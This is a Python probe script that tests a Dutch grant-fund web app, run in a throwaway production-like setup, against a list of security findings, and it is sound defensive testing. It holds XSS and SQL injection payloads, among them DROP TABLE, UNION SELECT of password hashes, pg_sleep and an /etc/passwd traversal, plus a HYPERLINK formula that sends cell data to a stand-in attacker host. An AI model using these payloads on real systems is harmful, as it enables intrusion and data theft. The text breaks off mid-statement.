"""Rerun of the issue-12 probes against the production set-up (run by hand, prints a table).

Starts a throwaway PostgreSQL cluster (``tests/pg_cluster.py``), migrates it and seeds the demo data
*before* switching to ``FUND_ENV=production`` (the seed refuses production), then runs gunicorn
(``wsgi:app``, 2 workers, one trusted reverse proxy: ``FUND_TRUSTED_PROXIES=1``) with production
settings and probes it over HTTP, one check per finding of issue 12. Staff log in with password and
TOTP (a secret is set in the scratch database). Everything it makes (cluster, instance folder,
keys, logs) lives in one temporary folder that is removed at the end.

    .venv/bin/python bench/asvs_probe.py            # ~5 minutes on a quiet 2-core machine
    .venv/bin/python bench/asvs_probe.py --keep     # keep the folder (logs) for a look afterwards

Exit status 0 when every check passed.
"""
from __future__ import annotations

import argparse
import csv
import io
import json
import os
import re
import secrets
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

import pyotp  # noqa: E402
import requests  # noqa: E402
from sqlalchemy import create_engine, text  # noqa: E402

from bench.pages_bench import _free_port as free_port, _stop as stop  # noqa: E402  (one copy of each)
from tests.web.test_access import EXPECTED  # noqa: E402  (route x method -> roles that get in)

DEMO_PASSWORD = "demo-Drenthe-2026"
STAFF = {"officer": "officer@ontwikkelfonds.test", "supervisor": "supervisor@ontwikkelfonds.test",
         "finance": "finance@ontwikkelfonds.test", "auditor": "auditor@ontwikkelfonds.test",
         "beleid": "beleid@ontwikkelfonds.test", "admin": "admin@ontwikkelfonds.test"}
APPLICANTS = {"inwoner": "fatima@voorbeeld.nl", "werkgever": "hr@zorggroep.nl"}
BSNS = ["111222333", "123456782", "100000009", "999999990", "111111110", "222222220", "333333330"]
NEW_PASSWORD = "blauwe tram rijdt vannacht"
XSS = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("http://aanvaller.example/?x="&A1,"klik")'
SQL_PAYLOADS = ["'", "''", "\"", "1' OR '1'='1", "1; DROP TABLE users; --", "%", "_", "\\", "' UNION SELECT "
                "password_hash FROM users --", "1)) OR 1=1 --", "$$", "%00", "é' || pg_sleep(2) --",
                "9223372036854775808", "-1", "0x7fffffff", "NULL", "[]", "{}", "../../etc/passwd"]
SQL_PARAMS = [("/behandeling/", ["zoek", "status", "instrument", "gemeente", "sort", "pagina", "na", "voor",
                                 "toegewezen", "termijn"]),
              ("/verantwoording/export/besluiten", ["van", "tot", "instrument", "formaat"]),
              ("/verantwoording/export/controlespoor", ["aanvraag", "van", "tot", "formaat"])]

results: list[tuple[str, str, bool, str]] = []  # (finding, what, passed, counts)


def report(finding: str, what: str, passed: bool, counts: str) -> None:
    results.append((finding, what, passed, counts))
    print(f"  {'ok  ' if passed else 'FAIL'} {finding}: {what} ({counts})", flush=True)


# -- a browser: cookies kept although they are Secure (the probe talks plain HTTP to gunicorn) ----

class Browser:
    def __init__(self, base: str, client_ip: str | None = None):
        self.base, self.s = base, requests.Session()
        self.headers = {"X-Forwarded-For": client_ip} if client_ip else {}

    def _fix(self):
        for c in self.s.cookies:
            c.secure = False

    def get(self, path, **kw):
        headers = {**self.headers, **kw.pop("headers", {})}
        r = self.s.get(self.base + path, allow_redirects=False, headers=headers, timeout=60, **kw)
        self._fix()
        return r

    def post(self, path, data=None, csrf_from: str | None = None, **kw):
        data = data if isinstance(data, (str, bytes)) else dict(data or {})
        if csrf_from is not None:
            data["csrf_token"] = self.csrf(csrf_from)
        headers = {**self.headers, **kw.pop("headers", {})}
        r = self.s.post(self.base + path, data=data, allow_redirects=False, headers=headers, timeout=60, **kw)
        self._fix()
        return r

    def csrf(self, path: str) -> str:
        page = self.get(path).text
        m = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page) or re.search(
            r'value="([^"]+)"[^>]*name="csrf_token"', page)
        if not m:
            raise RuntimeError(f"no CSRF token on {path}")
        return m.group(1)

    @property
    def cookie(self) -> str | None:
        return self.s.cookies.get("session")

    def login(self, email: str, password: str = DEMO_PASSWORD, totp: str | None = None) -> bool:
        r = self.post("/auth/login", {"email": email, "password": password}, csrf_from="/auth/login")
        if r.status_code != 302:
            return False
        if totp:
            step = r.headers["Location"]
            code = pyotp.TOTP(totp).now()
            r = self.post(step, {"code": code}, csrf_from=step)
            if r.status_code != 302 or "/auth/" in r.headers.get("Location", ""):
                return False
        return True

    def logged_in_at(self, path: str) -> bool:
        r = self.get(path)
        return r.status_code == 200


def is_denied(r) -> bool:
    return r.status_code in (401, 403, 404, 405) or (
        r.status_code == 302 and "/auth/login" in r.headers.get("Location", ""))


# -- set-up ----------------------------------------------------------------------------------------

def run(cmd, env, **kw):
    return subprocess.run(cmd, env=env, cwd=ROOT, capture_output=True, text=True, timeout=600, **kw)


def prepare(tmp: Path, url: str) -> tuple[dict, dict]:
    """Migrate + seed as development, then the production environment. Returns (env, totp secrets)."""
    base = {k: v for k, v in os.environ.items()
            if not k.startswith(("FUND_", "RATELIMIT", "REDIS")) and k not in ("DATABASE_URL", "SECRET_KEY")}
    instance = tmp / "instance"
    dev = {**base, "DATABASE_URL": url, "FUND_INSTANCE_PATH": str(instance), "FUND_ENV": "development"}
    py = sys.executable
    for cmd in (["-m", "fund", "db", "upgrade"], ["-m", "fund", "demo", "seed"]):
        out = run([py, *cmd], dev)
        if out.returncode:
            raise SystemExit(f"{cmd}: {out.stderr[-2000:]}")
    keyfile = tmp / "keys" / "audit-ed25519.pem"
    prod = {**base, "DATABASE_URL": url, "FUND_INSTANCE_PATH": str(instance), "FUND_ENV": "production",
            "SECRET_KEY": secrets.token_hex(32), "FUND_PSEUDONYM_KEY": secrets.token_hex(32),
            "FUND_BASE_URL": "https://fonds.example", "FUND_BESTUURSORGAAN_RSIN": "001711118",
            "FUND_TRUSTED_PROXIES": "1", "FUND_AUDIT_SIGNING_KEY_FILE": str(keyfile),
            "FUND_AUDIT_CHECKPOINT_DIR": str(tmp / "checkpoints"), "FUND_WEB_WORKERS": "2",
            "FUND_WEB_THREADS": "4", "FUND_DOCUMENT_DIR": str(tmp / "documents")}
    keyfile.parent.mkdir(mode=0o700)
    out = run([py, "-m", "fund", "audit", "keygen", str(keyfile)], prod)
    if out.returncode:
        raise SystemExit(f"keygen: {out.stdout}{out.stderr[-2000:]}")
    engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://"))
    secrets_by_email = {}
    with engine.begin() as conn:
        # demo applicants get deliverable-looking addresses: the e-mail fields refuse '.test'
        conn.execute(text("UPDATE users SET email = replace(email, '.test', '.nl') "
                          "WHERE role IN ('inwoner', 'werkgever')"))
        for email in STAFF.values():
            secret = pyotp.random_base32()
            conn.execute(text("UPDATE users SET totp_secret = :s, totp_confirmed_at = now() WHERE email = :e"),
                         {"s": secret, "e": email})
            secrets_by_email[email] = secret
    engine.dispose()
    return prod, secrets_by_email


def start_gunicorn(env: dict, port: int, errlog: Path) -> subprocess.Popen:
    proc = subprocess.Popen([str(Path(sys.executable).parent / "gunicorn"), "--bind", f"127.0.0.1:{port}",
                             "--error-logfile", str(errlog), "--capture-output", "wsgi:app"],
                            env=env, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        try:
            if requests.get(f"http://127.0.0.1:{port}/healthz", timeout=2).status_code == 200:
                return proc
        except requests.RequestException:
            pass
        if proc.poll() is not None:
            raise SystemExit(f"gunicorn stopped: {errlog.read_text()[-2000:]}")
        time.sleep(0.5)
    raise SystemExit("gunicorn did not answer /healthz in 120 s")


# -- the probes ------------------------------------------------------------------------------------

def probe_boot_race(env: dict, tmp: Path, boots: int) -> None:
    """N app boots at once on one fresh instance folder (what gunicorn's workers do)."""
    folder = tmp / "boot-instance"
    code = "from fund.app import create_app; create_app()"
    failures = 0
    for round_ in range(boots // 8):
        shutil.rmtree(folder, ignore_errors=True)
        e = {**env, "FUND_INSTANCE_PATH": str(folder)}
        procs = [subprocess.Popen([sys.executable, "-c", code], env=e, cwd=ROOT, stdout=subprocess.DEVNULL,
                                  stderr=subprocess.DEVNULL) for _ in range(8)]
        failures += sum(p.wait(timeout=300) != 0 for p in procs)
    report("High: boot race", f"{boots // 8 * 8} app boots, 8 at a time on a fresh instance folder",
           failures == 0, f"{failures} failed")


def world_ids(engine) -> dict:
    q = lambda sql, **p: conn.execute(text(sql), p).scalar()  # noqa: E731
    with engine.connect() as conn:
        inwoner = q("SELECT id FROM users WHERE email = :e", e=APPLICANTS["inwoner"])
        app_id = q("SELECT id FROM applications WHERE applicant_id = :u ORDER BY id LIMIT 1", u=inwoner)
        return {
            "app_id": app_id,
            "doc_id": q("SELECT id FROM documents ORDER BY id LIMIT 1") or 1,
            "decision_id": q("SELECT id FROM decisions ORDER BY id LIMIT 1") or 1,
            "payment_id": q("SELECT id FROM payments ORDER BY id LIMIT 1") or 1,
            "batch_id": q("SELECT id FROM payment_batches ORDER BY id LIMIT 1") or 1,
            "user_id": q("SELECT id FROM users WHERE email = :e", e="henk@voorbeeld.nl"),
            "token": "x" * 40, "name": "99999999", "instrument": "llo", "provider": "digid",
            "slug": "opleiding", "event_applicant": "object", "event_officer": "assign", "run_id": "0" * 32,
        }


def url_for_rule(rule, world) -> str:
    path = rule.rule
    for arg in rule.arguments:
        value = (world["event_applicant" if rule.endpoint.startswith("applicant.") else "event_officer"]
                 if arg == "event" else "css/fund.css" if arg == "filename" else world[arg])
        path = re.sub(rf"<(?:[^:<>]+:)?{arg}>", str(value), path)
    return path


def probe_access(base: str, env: dict, engine, browsers: dict) -> None:
    """Every route x role: a role outside EXPECTED never gets in (GET), and a forbidden POST never
    does anything (POST with a valid CSRF token of that role's session)."""
    from fund.app import create_app

    os.environ.update({k: v for k, v in env.items() if k.startswith(("FUND_", "DATABASE_URL", "SECRET_KEY"))})
    app = create_app()
    world = world_ids(engine)
    rules = [(r, m) for r in app.url_map.iter_rules() if r.endpoint != "static"
             for m in sorted(r.methods - {"HEAD", "OPTIONS"})]
    gets = posts = leaks = post_leaks = 0
    leaked = []
    token = {role: b.csrf("/auth/wachtwoord-vergeten") for role, b in browsers.items() if role != "anonymous"}
    for rule, method in rules:
        allowed = EXPECTED.get((rule.endpoint, method), frozenset())
        path = url_for_rule(rule, world)
        for role, b in browsers.items():
            if role in allowed or rule.endpoint in ("auth.logout",):
                continue
            if method == "GET":
                gets += 1
                r = b.get(path)
                if not is_denied(r) and r.status_code != 400:
                    leaks += 1
                    leaked.append(f"GET {path} as {role}: {r.status_code}")
            else:
                posts += 1
                data = {"csrf_token": token.get(role, "")}
                r = b.post(path, data) if rule.endpoint != "api.eligibility" else b.post(path, json={})
                if not is_denied(r) and r.status_code not in (400,):
                    post_leaks += 1
                    leaked.append(f"POST {path} as {role}: {r.status_code}")
    for line in leaked[:10]:
        print("     ", line)
    report("Access control", f"route x role GETs outside the access matrix ({len(browsers)} roles)",
           leaks == 0, f"{gets} requests, {leaks} got in")
    report("Access control", "forbidden POSTs with the role's own CSRF token", post_leaks == 0,
           f"{posts} requests, {post_leaks} got in")


def probe_xss(base: str, browsers: dict, engine) -> None:
    b = browsers["inwoner"]
    fields = {"street": XSS[:60], "house_number": "4", "postcode": "7811 EA", "city": XSS[:60]}
    r = b.post("/mijn/gegevens", fields, csrf_from="/mijn/gegevens")
    world = world_ids(engine)
    b.post(f"/mijn/aanvragen/{world['app_id']}/actie/supplement", {"message": XSS},
           csrf_from=f"/mijn/aanvragen/{world['app_id']}")
    pages = ["/mijn/gegevens", "/mijn/aanvragen", f"/mijn/aanvragen/{world['app_id']}"]
    staff = [f"/behandeling/{world['app_id']}", "/behandeling/", f"/behandeling/?zoek={requests.utils.quote(XSS)}",
             "/beheer/gebruikers", "/auth/login?next=" + requests.utils.quote(XSS)]
    raw = checked = 0
    for who, paths in (("inwoner", pages), ("officer", staff[:3]), ("admin", staff[3:4]), ("anonymous", staff[4:])):
        for p in paths:
            checked += 1
            body = browsers[who].get(p).text
            raw += ("<script>alert(1)" in body) or ("<img src=x" in body)
    report("Injection: XSS", f"script/img in address fields and a message, {checked} pages as 4 roles",
           raw == 0 and r.status_code in (200, 302), f"{checked} pages, {raw} unescaped")


def probe_sql(browsers: dict) -> None:
    n = errors = 0
    who = {"/behandeling/": "officer", "/verantwoording/export/besluiten": "auditor", "/verantwoording/export/controlespoor": "auditor"}
    for path, params in SQL_PARAMS:
        b = browsers[who[path]]
        for param in params:
            for payload in SQL_PAYLOADS:
                n += 1
                r = b.get(path, params={param: payload})
                body = r.text[:20000] if r.headers.get("Content-Type", "").startswith("text/html") else ""
                if r.status_code >= 500 or "psycopg" in body or "SQLSTATE" in body or "syntax error" in body:
                    errors += 1
    report("Injection: SQL", f"{len(SQL_PAYLOADS)} payloads in every query parameter of the queue and exports",
           errors == 0, f"{n} requests, {errors} 5xx or SQL text")


def probe_hostile(base: str, browsers: dict) -> None:
    anon = Browser(base, "198.51.100.50")
    cases = [
        ("queue pagina=2^63-1", lambda: browsers["officer"].get("/behandeling/", params={"pagina": "9223372036854775807"})),
        ("NUL in zoek", lambda: browsers["officer"].get("/behandeling/", params={"zoek": "a\x00b"})),
        ("NUL in aanvraag", lambda: browsers["auditor"].get("/verantwoording/export/controlespoor", params={"aanvraag": "D\x00"})),
        ("tot=9999-12-31", lambda: browsers["auditor"].get("/verantwoording/export/besluiten", params={"tot": "9999-12-31"})),
        ("NUL in login e-mail", lambda: anon.post("/auth/login", {"email": "a\x00@x.nl", "password": "x" * 12},
                                                 csrf_from="/auth/login")),
        ("NUL in registration", lambda: anon.post("/auth/registreren", {
            "account_type": "inwoner", "name": "Henk\x00", "email": "nul@voorbeeld.nl", "bsn": "",
            "password": NEW_PASSWORD, "password_repeat": NEW_PASSWORD, "street": "A", "house_number": "1",
            "postcode": "7811 EA", "city": "Emmen"}, csrf_from="/auth/registreren")),
        ("cost 1e30 (API)", lambda: anon.post("/api/eligibility", json={"instrument": "llo", "training": {"cost": "1e30"}})),
        ("JSON nested 10,000 deep", lambda: anon.post("/api/eligibility", data="[" * 10000 + "]" * 10000,
                                                       headers={"Content-Type": "application/json"})),
    ]
    bad = []
    for name, call in cases:
        r = call()
        # an export form error goes back to the export page with the Dutch reason (as a flash)
        back_to_form = r.status_code == 302 and r.headers.get("Location", "").endswith("/verantwoording/")
        if not (400 <= r.status_code < 500 or (back_to_form and name.startswith("tot="))):
            bad.append(f"{name}: {r.status_code}")
    for line in bad:
        print("     ", line)
    report("Low: hostile input", "huge page numbers, NUL bytes, far dates, 1e30, deep JSON", not bad,
           f"{len(cases)} inputs, {len(bad)} not 4xx (or the export form with its message)")


def probe_logs(base: str, engine, errlog: Path, browsers: dict) -> None:
    """Provoked database errors on writes that carry a BSN and an IBAN: 500, and neither value (nor a
    password hash) in gunicorn's error log."""
    with engine.begin() as conn:
        conn.execute(text("CREATE FUNCTION kapot() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                          "RAISE EXCEPTION 'kapot: % %', NEW.bsn, NEW.password_hash; END $$"))
        conn.execute(text("CREATE TRIGGER kapot BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION kapot()"))
        conn.execute(text("CREATE FUNCTION kapot_iban() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN "
                          "IF NEW.iban IS NOT NULL THEN RAISE EXCEPTION 'kapot: %', NEW.iban; END IF; "
                          "RETURN NEW; END $$"))
        conn.execute(text("CREATE TRIGGER kapot_iban BEFORE UPDATE ON applications FOR EACH ROW "
                          "EXECUTE FUNCTION kapot_iban()"))
    before = errlog.stat().st_size
    anon = Browser(base, "198.51.100.60")
    bsn, iban = "270552911", "NL91ABNA0417164300"
    statuses = []
    r = anon.post("/auth/registreren", {
        "account_type": "inwoner", "name": "Log Proef", "email": "logproef@voorbeeld.nl", "bsn": bsn,
        "password": NEW_PASSWORD, "password_repeat": NEW_PASSWORD, "street": "A", "house_number": "1",
        "postcode": "7811 EA", "city": "Emmen"}, csrf_from="/auth/registreren")
    statuses.append(r.status_code)
    with engine.connect() as conn:
        draft = conn.execute(text(
            "SELECT a.id FROM applications a JOIN users u ON u.id = a.applicant_id WHERE u.email = :e "
            "AND a.status = 'concept' ORDER BY a.id LIMIT 1"), {"e": APPLICANTS["inwoner"]}).scalar()
    if draft:
        page = browsers["inwoner"].get(f"/mijn/aanvragen/{draft}/stap/betaling")
        if page.status_code == 200:
            r = browsers["inwoner"].post(f"/mijn/aanvragen/{draft}/stap/betaling", {"iban": iban},
                                         csrf_from=f"/mijn/aanvragen/{draft}/stap/betaling")
            statuses.append(r.status_code)
    with engine.begin() as conn:
        conn.execute(text("DROP TRIGGER kapot ON users"))
        conn.execute(text("DROP TRIGGER kapot_iban ON applications"))
        conn.execute(text("DROP FUNCTION kapot()"))
        conn.execute(text("DROP FUNCTION kapot_iban()"))
    time.sleep(1)
    logged = errlog.read_text(errors="replace")[before:]
    found = [w for w in (bsn, iban, "$argon2") if w in logged]
    report("High: secrets in the error log", "DB errors provoked on writes with a BSN (and an IBAN)",
           500 in statuses and "kapot" in logged and not found,
           f"answers {statuses}, {logged.count('Traceback')} tracebacks logged, found {found or 'nothing'}")


def probe_sessions(base: str, engine, totp: dict) -> None:
    # after logout
    b = Browser(base, "198.51.100.70")
    ok = b.login("tom@voorbeeld.nl")  # not the inwoner of the other probes: logout ends all of it
    cookie = b.cookie
    b.post("/auth/logout", {}, csrf_from="/mijn/aanvragen")
    replay = Browser(base, "198.51.100.71")
    replay.s.cookies.set("session", cookie)
    after_logout = replay.logged_in_at("/mijn/aanvragen")
    # after a password reset (the link from the outbox)
    b = Browser(base, "198.51.100.72")
    user = "sarah@voorbeeld.nl"
    ok = ok and b.login(user)
    cookie = b.cookie
    anon = Browser(base, "198.51.100.73")
    anon.post("/auth/wachtwoord-vergeten", {"email": user}, csrf_from="/auth/wachtwoord-vergeten")
    with engine.connect() as conn:
        body = conn.execute(text("SELECT body FROM outbox WHERE to_address = :e ORDER BY id DESC LIMIT 1"),
                            {"e": user}).scalar() or ""
    link = re.search(r"https://fonds\.example(/auth/wachtwoord/\S+)", body)
    if not link:
        print("      no reset mail; outbox for", user, repr(body[:200]))
    reset = link and anon.post(link.group(1), {"password": NEW_PASSWORD, "password_repeat": NEW_PASSWORD},
                               csrf_from=link.group(1)).status_code == 302
    replay = Browser(base, "198.51.100.74")
    replay.s.cookies.set("session", cookie)
    after_reset = replay.logged_in_at("/mijn/aanvragen")
    report("Medium: session revocation", "cookie replayed after logout and after a password reset",
           ok and bool(reset) and not after_logout and not after_reset,
           f"logout replay {'works' if after_logout else 'refused'}, reset replay "
           f"{'works' if after_reset else 'refused'}{'' if reset else ', reset link not found'}")


def probe_audit(env: dict, engine) -> None:
    """As the database owner: switch the trigger off, change one event, recompute the whole chain."""
    import hashlib

    from fund.audit.chain import GENESIS_HASH, canonical_json

    py = sys.executable
    cp = run([py, "-m", "fund", "audit", "checkpoint"], env)
    before = run([py, "-m", "fund", "audit", "verify"], env)
    with engine.begin() as conn:
        cols = [r[0] for r in conn.execute(text(
            "SELECT column_name FROM information_schema.columns WHERE table_name = 'audit_events'"))]
        triggers = [r[0] for r in conn.execute(text(
            "SELECT tgname FROM pg_trigger WHERE tgrelid = 'audit_events'::regclass AND NOT tgisinternal"))]
        conn.execute(text("ALTER TABLE audit_events DISABLE TRIGGER USER"))
        events = conn.execute(text("SELECT * FROM audit_events ORDER BY seq")).mappings().all()
    from fund.models import AuditEvent
    from fund.audit.chain import hashed_fields

    target = events[len(events) // 2]["seq"]
    prev, rows = GENESIS_HASH, []
    for row in events:
        ev = AuditEvent(**{k: row[k] for k in cols if k in AuditEvent.__table__.c})
        if row["seq"] == target:
            ev.data = {**(row["data"] or {}), "bedrag": "99999.00"}
        ev.prev_hash = prev
        fields = hashed_fields(ev)
        new = hashlib.sha256(canonical_json(fields).encode()).hexdigest()
        rows.append({"i": row["id"], "d": json.dumps(ev.data), "p": prev, "h": new})
        prev = new
    with engine.begin() as conn:
        conn.execute(text("UPDATE audit_events SET prev_hash = 'tmp-' || id, hash = 'tmph-' || id"))
        conn.execute(text("UPDATE audit_events SET data = CAST(:d AS JSON), prev_hash = :p, hash = :h "
                          "WHERE id = :i"), rows)
        conn.execute(text("ALTER TABLE audit_events ENABLE TRIGGER USER"))
    after = run([py, "-m", "fund", "audit", "verify"], env)
    named = "controlepunt" in after.stdout + after.stderr
    report("Medium: audit chain rewrite", f"event {target} of {len(events)} changed, all hashes recomputed "
           f"(triggers {', '.join(triggers)} off)", cp.returncode == 0 and before.returncode == 0
           and after.returncode != 0 and named,
           f"verify before: exit {before.returncode}; after: exit {after.returncode}, "
           f"{'names the checkpoint' if named else (after.stdout + after.stderr).strip()[-200:]}")


def owner_browser(base: str, engine, statuses: tuple[str, ...], ip: str):
    """A browser logged in as the applicant of an application in one of ``statuses`` (demo data)."""
    with engine.connect() as conn:
        row = conn.execute(text(
            "SELECT a.id, a.number, u.email FROM applications a JOIN users u ON u.id = a.applicant_id "
            "WHERE a.status = ANY(:s) AND u.role IN ('inwoner', 'werkgever') AND u.email <> 'tom@voorbeeld.nl' "
            "AND u.email <> 'sarah@voorbeeld.nl' ORDER BY array_position(:s, a.status::text), a.id LIMIT 1"),
            {"s": list(statuses)}).first()
    if row is None:
        return None, None, None
    b = Browser(base, ip)
    return (b, row.id, row.number) if b.login(row.email) else (None, None, None)


def probe_formula(base: str, browsers: dict, engine) -> None:
    """Applicant text starting with '=' goes into the audit-trail CSV and XLSX: never as a formula."""
    from openpyxl import load_workbook

    b, app_id, number = owner_browser(base, engine, ("ingediend", "in_behandeling", "herstel"), "198.51.100.90")
    if b is None:
        report("Medium: formula injection", "withdraw reason in exports", False, "no open application to use")
        return
    page = b.get(f"/mijn/aanvragen/{app_id}").text  # the event's form fields carry its name as prefix
    token = re.search(r'name="withdraw-csrf_token"[^>]*value="([^"]+)"', page)
    w = b.post(f"/mijn/aanvragen/{app_id}/actie/withdraw", {"withdraw-reason": FORMULA, "bevestigd": "ja",
                                                          "withdraw-csrf_token": token.group(1) if token else ""})
    if w.status_code != 302:
        print("      withdraw answered", w.status_code)
    a = browsers["auditor"]
    cells = formulas = 0
    found_text = False
    for path, params in (("/verantwoording/export/controlespoor", {"aanvraag": number, "formaat": "csv"}),
                         ("/verantwoording/export/besluiten", {"formaat": "csv"}), ("/verantwoording/export/besluiten", {"formaat": "xlsx"})):
        r = a.get(path, params=params)
        if r.status_code != 200:
            print("     ", path, params, r.status_code)
            continue
        if params["formaat"] == "csv":
            values = [v for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for v in row]
        else:
            wb = load_workbook(io.BytesIO(r.content))
            values = [c.value for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
            formulas += sum(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)
        for v in map(str, values):
            cells += 1
            formulas += v[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[0-9.,]+", v)
            found_text = found_text or "HYPERLINK" in v
    report("Medium: formula injection", "'=HYPERLINK(...)' as withdraw reason; audit-trail CSV, decisions CSV + XLSX",
           found_text and formulas == 0, f"{cells} cells, {formulas} start a formula")


def probe_rate_limits(base: str, totp: dict) -> None:
    # shared by both workers: 10 login posts a minute per client address
    b = Browser(base, "203.0.113.10")
    token = b.csrf("/auth/login")
    codes = [b.post("/auth/login", {"email": f"x{i}@voorbeeld.nl", "password": "fout wachtwoord 1",
                                    "csrf_token": token}).status_code for i in range(25)]
    limited = codes.count(429)
    report("Medium: rate limits", "25 login posts from one client address over 2 workers (limit 10/min)",
           codes[:10].count(429) == 0 and limited == 15, f"{limited} answered 429")
    # behind the proxy: a flood of made-up accounts from one address does not lock the real user out
    attacker = Browser(base, "203.0.113.66")
    flood = [attacker.post("/auth/login", {"email": f"verzonnen{i}@voorbeeld.nl", "password": "fout wachtwoord 1"},
                           csrf_from="/auth/login").status_code for i in range(22)]
    guess = [attacker.post("/auth/login", {"email": STAFF["auditor"], "password": f"fout wachtwoord {i}"},
                           csrf_from="/auth/login").status_code for i in range(6)]
    real = Browser(base, "192.0.2.44")
    ok = real.login(STAFF["auditor"], totp=totp[STAFF["auditor"]]) and real.logged_in_at("/verantwoording/")
    report("Medium: rate limits", "22 made-up accounts + 6 guesses at the auditor from one address behind "
           "the proxy, then the real auditor from another", ok and 429 in flood + guess,
           f"attacker got {(flood + guess).count(429)} x 429, real auditor {'logged in' if ok else 'LOCKED OUT'}")


def probe_upload(base: str, browsers: dict, engine) -> None:
    b, draft, _ = owner_browser(base, engine, ("concept", "herstel"), "198.51.100.91")
    if b is None:
        report("Medium: upload quota", "60 x 512 KiB on one draft", False, "no draft application found")
        return
    page = b.get(f"/mijn/aanvragen/{draft}/documenten").text
    kinds = re.findall(r'<option value="([a-z_]+)"', page)
    accepted = refused = errors = 0
    token = b.csrf(f"/mijn/aanvragen/{draft}/documenten")
    for i in range(60):
        pdf = b"%PDF-1.4\n" + os.urandom(512 * 1024 - 20) + b"\n%%EOF\n"
        r = b.post(f"/mijn/aanvragen/{draft}/documenten", {"kind": kinds[0] if kinds else "overig",
                                                          "csrf_token": token},
                   files={"file": (f"bijlage{i}.pdf", pdf, "application/pdf")})
        if r.status_code == 302:
            accepted += 1
        elif r.status_code in (200, 400, 413, 422, 429):
            refused += 1
        else:
            errors += 1
    report("Medium: upload quota", "60 x 512 KiB PDFs on one draft", refused > 0 and errors == 0 and accepted < 60,
           f"{accepted} accepted, {refused} refused with a message, {errors} errors")


def probe_enumeration(base: str, engine, tries: int) -> None:
    def register(ip, **fields):
        b = Browser(base, ip)
        data = {"account_type": "inwoner", "name": "Proef Persoon", "password": NEW_PASSWORD,
                "password_repeat": NEW_PASSWORD, "street": "Brink", "house_number": "7", "postcode": "9461 AR",
                "city": "Gieten", "bsn": "", **fields}
        r = b.post("/auth/registreren", data, csrf_from="/auth/registreren")
        page = b.get("/auth/login").text.split('name="csrf_token"')[0]
        return r.status_code, r.headers.get("Location"), page

    cases = {
        "new": register("198.51.100.80", email="nieuw1@voorbeeld.nl", bsn="270552911"),
        "taken e-mail": register("198.51.100.81", email="henk@voorbeeld.nl"),
        "taken BSN": register("198.51.100.82", email="nieuw2@voorbeeld.nl", bsn=BSNS[2]),
        "taken KvK": register("198.51.100.83", email="nieuw3@voorbeeld.nl", account_type="werkgever",
                              kvk_number="12345678", organisation_name="Zorggroep", organisation_municipality="GM0114"),
    }
    same = len(set(cases.values())) == 1 and cases["new"][:2] == (302, "/auth/login")
    report("Low: enumeration", "registration with a new vs taken e-mail, BSN, KvK number", same,
           "same answer and page" if same else str({k: v[:2] for k, v in cases.items()}))
    # login timing over HTTP, interleaved; every try from another client address (no growing delay)
    known, unknown = [], []
    for i in range(tries):
        for target, emails in ((known, "henk@voorbeeld.nl"), (unknown, f"niemand{i}@voorbeeld.nl")):
            b = Browser(base, f"10.9.{i // 200}.{i % 200 + (0 if target is known else 50)}")
            token = b.csrf("/auth/login")
            t = time.perf_counter()
            b.post("/auth/login", {"email": emails, "password": "fout wachtwoord 1", "csrf_token": token})
            target.append((time.perf_counter() - t) * 1000)
    med_k, med_u = statistics.median(known), statistics.median(unknown)
    p95 = lambda v: statistics.quantiles(v, n=20)[-1]  # noqa: E731
    report("Low: enumeration", f"login timing over HTTP, {tries} tries each, known vs unknown account",
           0.8 < med_k / med_u < 1.25,
           f"median {med_k:.0f} vs {med_u:.0f} ms, p95 {p95(known):.0f} vs {p95(unknown):.0f} ms")


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--boots", type=int, default=48, help="app boots for the boot race (8 at a time)")
    parser.add_argument("--tries", type=int, default=40, help="login timing tries per kind")
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder")
    parser.add_argument("--only", default="", help="comma-separated probe names (boot,access,xss,sql,hostile,"
                        "logs,sessions,formula,upload,ratelimits,enumeration,audit); default all")
    args = parser.parse_args()
    from bench.pg import drop_database, make_database
    from tests.pg_cluster import start

    tmp = Path(tempfile.mkdtemp(prefix="asvs-probe-"))
    cluster = start()
    gunicorn = None
    try:
        url = make_database(cluster.admin_url)
        engine = create_engine(url.replace("postgresql://", "postgresql+psycopg://"))
        print("set-up: migrate, demo seed (development), then production settings", flush=True)
        env, totp = prepare(tmp, url)
        want = set(filter(None, args.only.split(","))) or None
        on = lambda name: want is None or name in want  # noqa: E731
        if on("boot"):
            probe_boot_race(env, tmp, args.boots)
        port = free_port()
        errlog = tmp / "gunicorn-error.log"
        gunicorn = start_gunicorn(env, port, errlog)
        base = f"http://127.0.0.1:{port}"
        print(f"gunicorn on {base} (2 workers, FUND_ENV=production, 1 trusted proxy)", flush=True)
        browsers = {"anonymous": Browser(base, "198.51.100.1")}
        for i, (role, email) in enumerate({**APPLICANTS, **STAFF}.items()):
            b = Browser(base, f"198.51.100.{10 + i}")
            if not b.login(email, totp=totp.get(email)):
                raise SystemExit(f"login as {role} failed")
            browsers[role] = b
        if on("access"):
            probe_access(base, env, engine, browsers)
        if on("xss"):
            probe_xss(base, browsers, engine)
        if on("sql"):
            probe_sql(browsers)
        if on("hostile"):
            probe_hostile(base, browsers)
        if on("logs"):
            probe_logs(base, engine, errlog, browsers)
        if on("sessions"):
            probe_sessions(base, engine, totp)
        if on("formula"):
            probe_formula(base, browsers, engine)
        if on("upload"):
            probe_upload(base, browsers, engine)
        if on("ratelimits"):
            probe_rate_limits(base, totp)
        if on("enumeration"):
            probe_enumeration(base, engine, args.tries)
        stop(gunicorn)
        gunicorn = None
        if on("audit"):
            probe_audit(env, engine)
        engine.dispose()
        drop_database(cluster.admin_url, url)
    finally:
        if gunicorn is not None:
            stop(gunicorn)
        cluster.stop()
        if args.keep:
